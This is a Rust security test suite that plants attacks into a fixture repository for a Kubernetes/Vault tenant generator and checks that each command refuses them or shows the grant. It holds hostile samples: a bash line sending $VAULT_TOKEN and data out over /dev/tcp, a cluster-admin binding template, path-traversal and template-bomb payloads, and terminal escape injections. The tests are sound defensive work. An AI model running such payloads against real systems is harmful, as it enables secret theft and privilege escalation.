//! The hostile-repository suite (issue 18, "The proof"): one fixture
//! repository, one planted attack per case, every command CI or an operator
//! runs on it. Each run is held to ARCHITECTURE.md's rule through
//! `common::hostile::Fixture::check`: no canary secret in any output, file
//! or request; no connection to a planted address; nothing outside the
//! repository changed; a time and a peak-memory bound; no raw control
//! sequence in the output. Each case then says what the command itself
//! must do: refuse, or show the grant.
//!
//! Attacks stop at the first refusal, so each case plants one change into
//! a fresh copy of the fixture for each command.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::symlink;
use std::process::Command;
use std::time::Duration;

use common::bounded;
use common::canary::{self, Canaries, Canary};
use common::capture::Capture;
use common::hostile::{Expect, Fixture, raw_controls, refuses, shows, warns};
use serde_json::json;

const CHECK: &str = "check";
const DIFF: &str = "diff";
const RENDER: &str = "render --yes";
const ACCESS: &str = "access";
const LIST: &str = "users list";
const ADD: &str = "users add zed --role admin --email zed@example.com --yes";
const REMOVE: &str = "users remove bob --yes";
const OFFLINE: &str = "check --offline";

/// What CI and an operator run on a repository.
const COMMANDS: [&str; 7] = [CHECK, DIFF, RENDER, ACCESS, LIST, ADD, REMOVE];
/// The commands that render (and so run add-on templates).
const RENDERING: [&str; 3] = [CHECK, DIFF, RENDER];
const USERS: [&str; 3] = [LIST, ADD, REMOVE];

/// Plants with `plant` into a fresh fixture for each of `commands`, runs
/// it, and fails with every broken rule of every command.
fn attack(
    fixture: impl Fn() -> Fixture,
    commands: &[&str],
    plant: impl Fn(&Fixture),
    expect: impl Fn(&str) -> Expect,
) {
    let mut broken = Vec::new();
    for args in commands {
        let fixture = fixture();
        plant(&fixture);
        let (outcome, problems) = fixture.check(args, &expect(args));
        broken.extend(problems);
        if outcome.killed.is_some() {
            broken.push("(the remaining commands were not run after a kill)".into());
            break;
        }
    }
    assert!(broken.is_empty(), "\n{}", broken.join("\n"));
}

/// Every command, the same expectation.
fn everywhere(plant: impl Fn(&Fixture), expect: Expect) {
    attack(Fixture::new, &COMMANDS, plant, |_| expect.clone());
}

/// Every command: `rendering` for those that render or read grants
/// (check, diff, render, access), `users` for the users commands.
fn split(plant: impl Fn(&Fixture), rendering: Expect, users: Expect) {
    attack(Fixture::new, &COMMANDS, plant, |args| {
        if USERS.contains(&args) {
            users.clone()
        } else {
            rendering.clone()
        }
    });
}

fn mkfifo(path: &std::path::Path) {
    let path = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(path.as_ptr(), 0o644) }, 0);
}

fn addon(fixture: &Fixture, name: &str, scope: &str, stack: &str, template: &str) {
    fixture.append_config(&format!(
        "addon \"{name}\" {{\n  template = \"{template}\"\n  for      = \"{scope}\"\n  stack    = \"{stack}\"\n}}"
    ));
}

/// An add-on whose template (under `addons/`) is `text`.
fn addon_text(fixture: &Fixture, name: &str, scope: &str, stack: &str, text: &str) {
    let template = format!("addons/{name}.tf.j2");
    fixture.write(&template, text);
    addon(fixture, name, scope, stack, &template);
}

/// Reads the users from Vault: the repository drops `users_file`.
fn from_vault(fixture: &Fixture) {
    fixture.replace_config("users_file = \"examples/k8s_users.json\"", "");
}

fn add_namespace(fixture: &Fixture, user: &str, namespace: &str) {
    fixture.edit_users(|users| {
        users[user]["namespaces"]
            .as_array_mut()
            .unwrap()
            .push(json!(namespace));
    });
}

// ---- The harness itself -------------------------------------------------

#[test]
fn the_scanner_finds_any_eight_characters_of_a_canary_in_every_form() {
    let canary = Canary::new("TEST", "ab\"cd\\ef${gh}ij%{kl}mn");
    assert!(canary.found_in(b"xx ab\"cd\\ef yy").is_some(), "raw");
    assert!(
        canary.found_in(br#"{"v":"d\\ef${gh}"}"#).is_some(),
        "JSON-escaped"
    );
    assert!(
        canary.found_in(b"v = \"f$${gh}ij%%{\"").is_some(),
        "HCL-escaped"
    );
    assert!(
        canary.found_in(b"ef${gh}").is_none(),
        "7 characters are not a leak"
    );
    assert!(
        canary.found_in(b"abcdefghijklmn").is_none(),
        "no piece of it"
    );
    assert_eq!(canary::hcl_escaped("a\"${b}%{c}"), "a\\\"$${b}%%{c}");
    let canaries = Canaries::new(&[]);
    let token = canaries.all[0].value.clone();
    let leaked = format!("debug: {:?}", &token[3..14]);
    assert_eq!(canaries.leaks("log", leaked.as_bytes()).len(), 1);
    assert!(
        canaries
            .leaks_except("log", leaked.as_bytes(), &[canary::VAULT_TOKEN])
            .is_empty()
    );
}

#[test]
fn the_capture_server_counts_a_bare_connection_and_records_a_request() {
    let server = Capture::start();
    drop(TcpStream::connect(server.url().trim_start_matches("http://")).unwrap());
    let canaries = Canaries::new(&[]);
    let mut stream = TcpStream::connect(server.url().trim_start_matches("http://")).unwrap();
    let secret = &canaries.all[1].value;
    write!(stream, "GET / HTTP/1.1\r\nX-Token: {secret}\r\n\r\n").unwrap();
    let mut response = String::new();
    stream.read_to_string(&mut response).unwrap();
    assert!(response.starts_with("HTTP/1.1 403"), "{response}");
    assert_eq!(server.connections(), 2);
    let leaks: Vec<String> = server
        .requests()
        .iter()
        .flat_map(|request| canaries.leaks("request", request))
        .collect();
    assert_eq!(leaks.len(), 1, "{leaks:?}");
}

#[test]
fn the_runner_kills_a_hang_and_measures_the_childs_own_peak_memory() {
    let hang = bounded::run(sleep(30), Duration::from_millis(300), 1 << 20);
    assert!(hang.killed.unwrap().contains("still running"));
    let small = bounded::run(sleep(0), Duration::from_secs(30), 1 << 20);
    assert!(small.killed.is_none() && small.status.success());
    let grow = |doublings: u32| {
        let mut awk = Command::new("awk");
        awk.env("PATH", path()).arg(format!(
            "BEGIN {{ s = \"x\"; for (i = 0; i < {doublings}; i++) s = s s; print length(s) }}"
        ));
        awk
    };
    let big = bounded::run(grow(27), Duration::from_secs(60), 4 << 20);
    assert!(big.killed.is_none(), "{big:?}");
    assert!(big.peak_rss_kib >= 128 * 1024, "{} KiB", big.peak_rss_kib);
    // Measured after the big child was reaped: its peak is not this one's.
    let small = bounded::run(sleep(0), Duration::from_secs(30), 1 << 20);
    assert!(small.peak_rss_kib < 64 * 1024, "{} KiB", small.peak_rss_kib);
    let runaway = bounded::run(grow(40), Duration::from_secs(60), 64 * 1024);
    assert!(runaway.killed.unwrap().contains("resident memory"));
}

fn sleep(seconds: u32) -> Command {
    let mut command = Command::new("sleep");
    command.arg(seconds.to_string()).env("PATH", path());
    command
}

fn path() -> std::ffi::OsString {
    std::env::var_os("PATH").unwrap_or_default()
}

/// A stand-in for a leaky tenantgen, run through the same checks: every
/// kind of breach is reported.
#[test]
fn the_harness_reports_a_leak_a_connection_a_write_outside_and_raw_control() {
    let fixture = Fixture::new();
    let port = fixture
        .attacker
        .url()
        .rsplit(':')
        .next()
        .unwrap()
        .to_owned();
    let script = format!(
        "echo \"token: $VAULT_TOKEN\"; printf 'a\\033]0;x\\007\\nINJECTED-LINE\\n' >&2; \
         exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3; \
         cat {} > stacks-out/copy.txt; touch ../outside/new",
        fixture.canary_file.display()
    );
    let mut command = Command::new("bash");
    command.arg("-c").arg(script).current_dir(&fixture.repo);
    fixture.ci_env(&mut command);
    let (_, broken) = fixture.check_command("leaky", command, &Expect::Bounded);
    let report = broken.join("\n");
    for rule in [
        "stdout leaks VAULT_TOKEN",
        "file stacks-out/copy.txt leaks",
        "stderr holds a raw '\\u{1b}'",
        "stderr holds a raw '\\u{7}'",
        "forged by a planted newline",
        "the planted address got 1 connection",
        "something outside the repository changed",
    ] {
        assert!(report.contains(rule), "{rule:?} is not in:\n{report}");
    }
    assert!(raw_controls("x", "plain ✓ text\n".as_bytes()).is_empty());
}

// ---- Filesystem (held before issue 18) ----------------------------------

#[test]
fn a_symlinked_output_root() {
    attack(
        Fixture::new,
        &COMMANDS,
        |fixture| {
            let elsewhere = fixture.root().join("outside/stacks");
            std::fs::rename(fixture.path("stacks-out"), &elsewhere).unwrap();
            symlink(&elsewhere, fixture.path("stacks-out")).unwrap();
        },
        |args| {
            if RENDERING.contains(&args) {
                refuses(&["symbolic link"])
            } else {
                Expect::Bounded
            }
        },
    );
}

// ---- N1: add-on template paths ------------------------------------------

#[test]
fn n1_addon_template_proc_self_environ() {
    split(
        |fixture| addon(fixture, "leak", "stack", "vault", "/proc/self/environ"),
        refuses(&["template"]),
        Expect::Bounded,
    );
}

#[test]
fn n1_addon_template_symlink_to_a_file_outside() {
    split(
        |fixture| {
            std::fs::create_dir_all(fixture.path("addons")).unwrap();
            symlink(&fixture.canary_file, fixture.path("addons/leak.tf.j2")).unwrap();
            addon(fixture, "leak", "stack", "vault", "addons/leak.tf.j2");
        },
        refuses(&["template"]),
        Expect::Bounded,
    );
}

#[test]
fn n1_addon_template_dot_dot_out_of_the_repository() {
    split(
        |fixture| addon(fixture, "leak", "stack", "vault", "../outside/canary.txt"),
        refuses(&["template"]),
        Expect::Bounded,
    );
}

#[test]
fn n1_addon_template_absolute_path_outside() {
    split(
        |fixture| {
            let path = fixture.canary_file.display().to_string();
            addon(fixture, "leak", "stack", "vault", &path);
        },
        refuses(&["template"]),
        Expect::Bounded,
    );
}

#[test]
fn n1_addon_template_fifo() {
    split(
        |fixture| {
            std::fs::create_dir_all(fixture.path("addons")).unwrap();
            mkfifo(&fixture.path("addons/leak.tf.j2"));
            addon(fixture, "leak", "stack", "vault", "addons/leak.tf.j2");
        },
        refuses(&["template"]),
        Expect::Bounded,
    );
}

// ---- Confinement of users_file, out, secret_id_file ---------------------

const USERS_FILE: &str = "users_file = \"examples/k8s_users.json\"";

#[test]
fn users_file_dot_dot_outside() {
    everywhere(
        |fixture| fixture.replace_config(USERS_FILE, "users_file = \"../outside/users.json\""),
        refuses(&["users_file"]),
    );
}

#[test]
fn users_file_absolute_outside() {
    everywhere(
        |fixture| {
            let line = format!("users_file = \"{}\"", fixture.outside_users.display());
            fixture.replace_config(USERS_FILE, &line);
        },
        refuses(&["users_file"]),
    );
}

#[test]
fn users_file_symlinked_outside() {
    everywhere(
        |fixture| {
            let path = fixture.path("examples/k8s_users.json");
            std::fs::remove_file(&path).unwrap();
            symlink(&fixture.outside_users, path).unwrap();
        },
        refuses(&["users_file"]),
    );
}

#[test]
fn out_dot_dot_outside() {
    split(
        |fixture| {
            fixture.replace_config("out        = \"stacks-out\"", "out = \"../outside/stacks\"")
        },
        refuses(&["outside/stacks"]),
        Expect::Bounded,
    );
}

#[test]
fn out_absolute_outside() {
    split(
        |fixture| {
            let line = format!(
                "out = \"{}\"",
                fixture.root().join("outside/stacks").display()
            );
            fixture.replace_config("out        = \"stacks-out\"", &line);
        },
        refuses(&["outside/stacks"]),
        Expect::Bounded,
    );
}

#[test]
fn secret_id_file_outside_with_approle_at_a_planted_address() {
    everywhere(
        |fixture| {
            from_vault(fixture);
            fixture.append_config(&format!(
                "vault {{\n  address = \"{}\"\n  auth = \"approle\"\n  role_id = \"planted-role\"\n  secret_id_file = \"{}\"\n}}",
                fixture.attacker.url(),
                fixture.canary_file.display()
            ));
        },
        refuses(&["secret_id_file"]),
    );
}

#[test]
fn users_file_is_a_fifo() {
    everywhere(
        |fixture| {
            let path = fixture.path("examples/k8s_users.json");
            std::fs::remove_file(&path).unwrap();
            mkfifo(&path);
        },
        refuses(&["k8s_users.json"]),
    );
}

#[test]
fn addon_stack_dot_dot_out_of_the_output_root() {
    everywhere(
        |fixture| {
            fixture.write("addons/a.tf.j2", "# an add-on\n");
            addon(fixture, "a", "stack", "../../outside", "addons/a.tf.j2");
        },
        refuses(&["addon.a.stack"]),
    );
}

#[test]
fn layout_stack_dot_dot_out_of_the_output_root() {
    everywhere(
        |fixture| fixture.append_config("layout {\n  vault = \"../../outside\"\n}"),
        refuses(&["layout.vault"]),
    );
}

// ---- N2: credential routing ---------------------------------------------

#[test]
fn n2_vault_address_planted() {
    everywhere(
        |fixture| {
            from_vault(fixture);
            let line = format!("vault {{\n  address = \"{}\"\n}}", fixture.attacker.url());
            fixture.append_config(&line);
        },
        refuses(&["address"]),
    );
}

#[test]
fn n2_kubernetes_login_with_a_planted_jwt_path_and_mount() {
    everywhere(
        |fixture| {
            from_vault(fixture);
            fixture.append_config(&format!(
                "vault {{\n  address = \"{}\"\n  auth = \"kubernetes\"\n  kubernetes_role = \"planted-role\"\n  auth_mount = \"planted-mount\"\n  jwt_path = \"{}\"\n}}",
                fixture.attacker.url(),
                fixture.canary_file.display()
            ));
        },
        refuses(&["jwt_path"]),
    );
}

#[test]
fn n2_vault_namespace_planted() {
    everywhere(
        |fixture| {
            from_vault(fixture);
            fixture.append_config("vault {\n  namespace = \"planted-namespace\"\n}");
        },
        refuses(&["namespace"]),
    );
}

#[test]
fn n2_vault_ca_cert_planted() {
    everywhere(
        |fixture| {
            from_vault(fixture);
            fixture.append_config(&format!(
                "vault {{\n  address = \"{}\"\n  ca_cert = \"{}\"\n}}",
                fixture.attacker.url().replace("http:", "https:"),
                fixture.canary_file.display()
            ));
        },
        refuses(&["ca_cert"]),
    );
}

// ---- N3: generated roles named after existing ones ----------------------

#[test]
fn n3_read_only_role_named_cluster_admin() {
    everywhere(
        |fixture| fixture.append_config("names {\n  read_only_role = \"cluster-admin\"\n}"),
        refuses(&["read_only_role", "cluster-admin"]),
    );
}

#[test]
fn n3_power_user_role_named_admin() {
    everywhere(
        |fixture| fixture.append_config("names {\n  power_user_role = \"admin\"\n}"),
        refuses(&["power_user_role"]),
    );
}

#[test]
fn n3_generated_role_named_like_a_hand_written_one() {
    everywhere(
        |fixture| {
            fixture.append_config(
                "power_user {\n  cluster_role = \"ops-reader\"\n}\n\nnames {\n  read_only_role = \"ops-reader\"\n}",
            );
        },
        refuses(&["read_only_role", "ops-reader"]),
    );
}

/// `access` judges a binding by the role it names: the built-in
/// `cluster-admin` bound through `namespace_owner.cluster_role` is shown
/// with its real rules, not as rules unknown.
#[test]
fn n3_a_bound_built_in_role_is_shown_with_its_rules() {
    let fixture = Fixture::new();
    fixture.append_config("namespace_owner {\n  cluster_role = \"cluster-admin\"\n}");
    let args = "access bob --format json";
    let (outcome, mut broken) = fixture.check(args, &Expect::Bounded);
    let report: serde_json::Value = serde_json::from_slice(&outcome.stdout).unwrap_or_default();
    let grants: Vec<&serde_json::Value> = report["principals"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|principal| principal["principal"] == "bob")
        .flat_map(|principal| principal["kubernetes"].as_array().into_iter().flatten())
        .filter(|grant| grant["role"] == "cluster-admin" && grant["scope"] == "cluster")
        .collect();
    if grants.is_empty() {
        broken.push(format!(
            "`{args}` shows no cluster-wide cluster-admin for bob:\n{}",
            outcome.stdout()
        ));
    }
    for grant in grants {
        if grant["rules"].as_array().is_none_or(Vec::is_empty) || grant["write"] != true {
            broken.push(format!(
                "`{args}`: cluster-admin without its rules: {grant}"
            ));
        }
    }
    assert!(broken.is_empty(), "\n{}", broken.join("\n"));
}

// ---- N4: extra policies naming another tenant's policy ------------------

#[test]
fn n4_extra_policy_is_another_tenants_policy() {
    split(
        |fixture| {
            fixture.append_config(
                "names {\n  policy = \"{user}\"\n}\n\nidentity {\n  extra_policies = [\"{user}-x\"]\n}",
            );
            fixture.edit_users(|users| {
                users.insert(
                    "alice-x".into(),
                    json!({"role": "namespace-owner", "namespaces": ["alicex"]}),
                );
            });
        },
        refuses(&["extra_policies", "alice-x"]),
        Expect::Bounded,
    );
}

// ---- N5: what add-ons grant is shown ------------------------------------

const CLUSTER_ADMIN_ADDON: &str = r#"resource "kubernetes_cluster_role_binding_v1" "grant_{{ user.name|raw_name }}" {
  metadata {
    name = {{ "grant-" ~ user.name }}
  }
  role_ref {
    api_group = "rbac.authorization.k8s.io"
    kind      = "ClusterRole"
    name      = "cluster-admin"
  }
  subject {
    kind      = "User"
    name      = {{ user.name }}
    api_group = "rbac.authorization.k8s.io"
  }
}
"#;

#[test]
fn n5_addon_binding_cluster_admin_is_shown() {
    attack(
        Fixture::new,
        &COMMANDS,
        |fixture| addon_text(fixture, "grant", "user", "platform", CLUSTER_ADMIN_ADDON),
        |args| match args {
            ACCESS => shows(&["cluster-admin", "addon \"grant\""]),
            DIFF | RENDER => shows(&["addon \"grant\""]),
            _ => Expect::Bounded,
        },
    );
}

#[test]
fn n5_addon_binding_an_unknown_role_is_shown_as_unknown() {
    attack(
        Fixture::new,
        &COMMANDS,
        |fixture| {
            let template = CLUSTER_ADMIN_ADDON.replace("\"cluster-admin\"", "var.granted_role");
            addon_text(fixture, "grant", "user", "platform", &template);
        },
        |args| match args {
            ACCESS => shows(&["unknown", "addon \"grant\""]),
            DIFF | RENDER => shows(&["addon \"grant\""]),
            _ => Expect::Bounded,
        },
    );
}

// ---- N7: reserved namespaces --------------------------------------------

fn claims_reserved(namespace: &'static str) {
    split(
        move |fixture| add_namespace(fixture, "alice", namespace),
        refuses(&["reserved", namespace]),
        Expect::Bounded,
    );
}

#[test]
fn n7_tenant_namespace_longhorn_system() {
    claims_reserved("longhorn-system");
}

#[test]
fn n7_tenant_namespace_argocd() {
    claims_reserved("argocd");
}

#[test]
fn n7_tenant_namespace_k8s_portal() {
    claims_reserved("k8s-portal");
}

#[test]
fn n7_config_reserved_list_adds_to_the_defaults() {
    split(
        |fixture| {
            fixture.append_config("namespaces {\n  reserved = [\"unused\"]\n}");
            add_namespace(fixture, "alice", "vault");
        },
        refuses(&["reserved", "vault"]),
        Expect::Bounded,
    );
}

#[test]
fn n7_planted_record_releasing_a_system_namespace_claimed_by_a_tenant() {
    split(
        |fixture| {
            fixture.edit_record(|record| {
                record.insert("released".into(), json!({"longhorn-system": "alice"}));
            });
            add_namespace(fixture, "alice", "longhorn-system");
        },
        refuses(&["reserved", "longhorn-system"]),
        Expect::Bounded,
    );
}

#[test]
fn n7_planted_record_never_imports_a_namespace_nobody_is_given() {
    let no_import = |fixture: &Fixture| {
        fixture.edit_record(|record| {
            record.insert("released".into(), json!({"longhorn-system": "alice"}));
        });
    };
    let mut broken = Vec::new();
    for args in RENDERING {
        let fixture = Fixture::new();
        no_import(&fixture);
        let (outcome, problems) = fixture.check(args, &Expect::Bounded);
        broken.extend(problems);
        if imports_longhorn(&outcome.stdout()) {
            broken.push(format!("`{args}` shows an import of longhorn-system"));
        }
        for (path, bytes) in common::tree(&fixture.path("stacks-out")) {
            if path.ends_with(".tf") && imports_longhorn(&String::from_utf8_lossy(&bytes)) {
                broken.push(format!("`{args}`: {path} imports longhorn-system"));
            }
        }
    }
    assert!(broken.is_empty(), "\n{}", broken.join("\n"));
}

/// An `import` block or a summary line re-adopting longhorn-system.
fn imports_longhorn(text: &str) -> bool {
    let block = text.split("import {").skip(1).any(|after| {
        after
            .split('}')
            .next()
            .is_some_and(|block| block.contains("longhorn"))
    });
    let summary = text
        .lines()
        .any(|line| line.contains("re-adopted") && line.contains("longhorn-system"));
    block || summary
}

#[test]
fn the_import_finder_finds_what_tenantgen_prints_for_a_re_adoption() {
    let block = "+import {\n+  to = kubernetes_namespace_v1.longhorn_system\n+  id = \"longhorn-system\"\n+}\n";
    assert!(imports_longhorn(block));
    assert!(imports_longhorn(
        "  namespaces re-adopted: longhorn-system (imported, not created)"
    ));
    assert!(!imports_longhorn(
        "removed {\n  from = kubernetes_namespace_v1.longhorn_system\n}\nimport {\n  to = x.alice\n}"
    ));
}

// ---- N8: unbounded templates --------------------------------------------

#[test]
fn n8_nested_range_loops() {
    split(
        |fixture| {
            addon_text(
                fixture,
                "spin",
                "stack",
                "vault",
                "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}\n",
            );
        },
        refuses(&["spin"]),
        Expect::Bounded,
    );
}

#[test]
fn n8_string_repetition_in_a_loop() {
    split(
        |fixture| {
            addon_text(
                fixture,
                "bloat",
                "stack",
                "vault",
                "{% for i in range(100000) %}# {{ \"x\" * 90000000 }}\n{% endfor %}",
            );
        },
        refuses(&["bloat"]),
        Expect::Bounded,
    );
}

#[test]
fn n8_string_doubling() {
    split(
        |fixture| {
            let doubling = "{% set s = s ~ s %}\n".repeat(64);
            let text = format!("{{% set s = \"x\" %}}\n{doubling}# {{{{ s|length }}}}\n");
            addon_text(fixture, "double", "stack", "vault", &text);
        },
        refuses(&["double"]),
        Expect::Bounded,
    );
}

// ---- N10: control characters from untrusted text ------------------------

const HOSTILE_TEXT: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}\nINJECTED-LINE";

#[test]
fn n10_control_characters_in_users_fields() {
    attack(
        Fixture::new,
        &COMMANDS,
        |fixture| {
            fixture.edit_users(|users| {
                users["bob"]["email"] = json!(format!("bob{HOSTILE_TEXT}@example.com"));
                users["erin"]["domains"] = json!([format!("x{HOSTILE_TEXT}.example.com")]);
                users.insert(format!("mallory{HOSTILE_TEXT}"), json!({"role": "admin"}));
            });
        },
        |args| match args {
            LIST => Expect::Bounded,
            _ => refuses(&["mallory"]),
        },
    );
}

#[test]
fn n10_control_characters_in_unknown_fields_and_the_users_diff() {
    everywhere(
        |fixture| {
            fixture.edit_users(|users| {
                let bob = users["bob"].as_object_mut().unwrap();
                bob.insert("note".into(), json!(HOSTILE_TEXT));
                bob.insert(format!("n{HOSTILE_TEXT}"), json!(1));
            });
        },
        Expect::Bounded,
    );
}

#[test]
fn n10_control_characters_in_render_record_keys() {
    attack(
        Fixture::new,
        &[OFFLINE, CHECK, DIFF, RENDER],
        |fixture| {
            fixture.edit_record(|record| {
                let bob = record["tenants"]["bob"].clone();
                record["tenants"][format!("x{HOSTILE_TEXT}")] = bob;
                record["files"][format!("platform/{HOSTILE_TEXT}.tf")] = json!("0".repeat(64));
            });
        },
        |_| Expect::Bounded,
    );
}

#[test]
fn n10_control_characters_in_a_hand_edited_file() {
    attack(
        Fixture::new,
        &[OFFLINE, CHECK, DIFF, RENDER],
        |fixture| {
            let path = fixture.path("stacks-out/platform/tenant-bob.tf");
            let text = std::fs::read_to_string(&path).unwrap();
            std::fs::write(
                path,
                format!("{text}# \u{1b}]0;pwned\u{7}\u{202e}evil\rINJECTED-LINE\n"),
            )
            .unwrap();
        },
        |_| Expect::Bounded,
    );
}

#[test]
fn n10_control_characters_in_a_vault_error_body() {
    attack(
        || Fixture::with_trusted(Capture::replying(HOSTILE_TEXT)),
        &COMMANDS,
        from_vault,
        |_| refuses(&[]),
    );
}

// ---- N6: bounded Vault responses ---------------------------------------

#[test]
fn n6_an_endless_vault_response_body() {
    attack(
        || Fixture::with_trusted(Capture::endless()),
        &COMMANDS,
        from_vault,
        |_| refuses(&[]),
    );
}

// ---- D8: look-alike characters ------------------------------------------

#[test]
fn d8_mixed_script_look_alike_email_is_warned_about() {
    split(
        |fixture| {
            fixture.edit_users(|users| {
                // A Cyrillic `о` in "bоb".
                users["bob"]["email"] = json!("b\u{43e}b@example.com");
            });
        },
        warns(&["bob", "Cyrillic"]),
        Expect::Bounded,
    );
}

// ---- N12: add-on blocks aimed at tenantgen's own addresses --------------

#[test]
fn n12_addon_import_into_a_core_address() {
    split(
        |fixture| {
            addon_text(
                fixture,
                "steal",
                "stack",
                "vault",
                "import {\n  to = kubernetes_namespace_v1.alice_prod\n  id = \"kube-system\"\n}\n",
            );
        },
        refuses(&["import", "kubernetes_namespace_v1.alice_prod"]),
        Expect::Bounded,
    );
}

#[test]
fn n12_addon_removed_of_a_core_address() {
    split(
        |fixture| {
            addon_text(
                fixture,
                "drop",
                "stack",
                "vault",
                "removed {\n  from = vault_policy.alice\n\n  lifecycle {\n    destroy = false\n  }\n}\n",
            );
        },
        refuses(&["removed", "vault_policy.alice"]),
        Expect::Bounded,
    );
}

// ---- The guard against revoking everyone --------------------------------

#[test]
fn an_empty_users_map_after_a_render() {
    attack(
        Fixture::new,
        &COMMANDS,
        |fixture| fixture.write("examples/k8s_users.json", "{}"),
        |args| match args {
            RENDER => refuses(&["--allow-removals", "alice", "erin"]),
            _ => Expect::Bounded,
        },
    );
}

#[test]
fn a_raised_guard_still_refuses_leaving_nobody_and_is_shown() {
    attack(
        Fixture::new,
        &COMMANDS,
        |fixture| {
            fixture.append_config("guard {\n  max_removed = 100\n}");
            fixture.write("examples/k8s_users.json", "{}");
        },
        |args| match args {
            RENDER => refuses(&["--allow-removals"]),
            DIFF => shows(&["guard"]),
            _ => Expect::Bounded,
        },
    );
}
